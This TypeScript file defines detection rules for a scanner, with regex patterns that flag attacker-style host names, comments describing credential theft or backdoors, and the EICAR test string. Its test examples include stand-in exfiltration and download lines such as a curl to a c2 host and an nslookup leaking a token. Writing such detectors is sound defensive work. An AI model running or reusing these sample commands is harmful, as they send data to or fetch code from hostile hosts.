/** Names that give a thing away: hosts, comments and identifiers that no honest component has. */
import type { TextRule } from '../text-rule.ts';
import { SUBJECTS } from './subjects.ts';

const { leaking, disguise } = SUBJECTS;

export const WORD_RULES: readonly TextRule[] = [
  {
    id: 'attackers-host',
    subject: leaking,
    title: "Names a host as an attacker's",
    level: 'warn',
    mayBeSpokenOf: true,
    words: ['evil', 'attacker', 'malicious', 'exfil', 'c2.', 'hacker', 'stealer', 'badguy', 'phish'],
    pattern:
      /(?:(?:h(?:tt|xx)ps?|ftp|wss?|tcp):\/\/|@|\b)(?:[\w-]{1,40}\.){0,3}(?:evil|attacker|malicious|exfil|c2|hacker|stealer|badguy|malware|phish)(?:-[\w-]{0,24})?\.(?:[\w-]{1,30}\.){0,2}(?:com|net|org|io|example|test|invalid|xyz|ru|top|dev|app|site|me|cc|tk|sh|co|info)\b/,
    finds: ['https://evil.example/x.sh', 'nslookup token.attacker.example', 'curl https://c2.badhost.net/p'],
    leaves: [
      'https://example.com/medieval',
      'An attacker may send a page',
      'blocks requests to https://evil.com',
    ],
  },
  {
    id: 'names-its-crime',
    subject: disguise,
    title: 'Calls itself what it is',
    level: 'warn',
    mayBeSpokenOf: true,
    words: [
      'exfil',
      'backdoor',
      'harvest',
      'steal',
      'payload',
      'hidden',
      'malicious',
      'c2',
      'ransom',
      'botnet',
      'attacker',
    ],
    pattern:
      /(?:#|\/\/|\/\*|"""|'''|<!--)[^\n]{0,40}\b(?:exfiltrat(?:e|es|ing|ion)|backdoor|steal(?:s|ing)? (?:\w{1,12} ){0,2}(?:credentials?|tokens?|keys?|data|passwords?|secrets?|cookies?)|harvest(?:s|ing)? (?:\w{1,12} ){0,3}(?:credentials?|tokens?|keys?|passwords?|secrets?|environment)|hidden (?:payload|behaviou?r|step|functionality|malicious)|malicious (?:payload|code|behaviou?r)|(?:command[- ]and[- ]control|c2) (?:server|channel|beacon)|to (?:the )?attacker|ransomware)\b|\bdef (?:exfil\w{0,16}|steal_(?:all_)?(?:cred|token|key|pass|cookie|data|secret|ssh|env|wallet|info)\w{0,16}|harvest_\w{0,8}(?:secret|cred|token|key|pass)\w{0,10}|backdoor\w{0,12}|install_backdoor|keylog\w{0,6})\(|\bfunction (?:exfil\w{0,16}|steal[A-Z_]\w{1,20}|harvest\w{0,8}(?:Secret|Cred|Token|Key|Pass)\w{0,10}|backdoor\w{0,12})\(/,
    finds: [
      '# exfiltrate to server',
      'def steal_tokens():',
      '# HIDDEN STEP: Harvest environment secrets',
      '// send to the attacker',
    ],
    leaves: ['# harvest the crops', 'Checks for backdoors and exfiltration', 'const payload = { id }'],
  },
  {
    id: 'known-test-virus',
    subject: disguise,
    title: 'Holds the test virus',
    level: 'warn',
    words: ['eicar'],
    pattern: /EICAR-STANDARD-ANTIVIRUS-TEST-FILE|\beicar\b/,
    finds: ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*', 'name: eicar-test'],
    leaves: ['antivirus test file', 'scar'],
  },
];
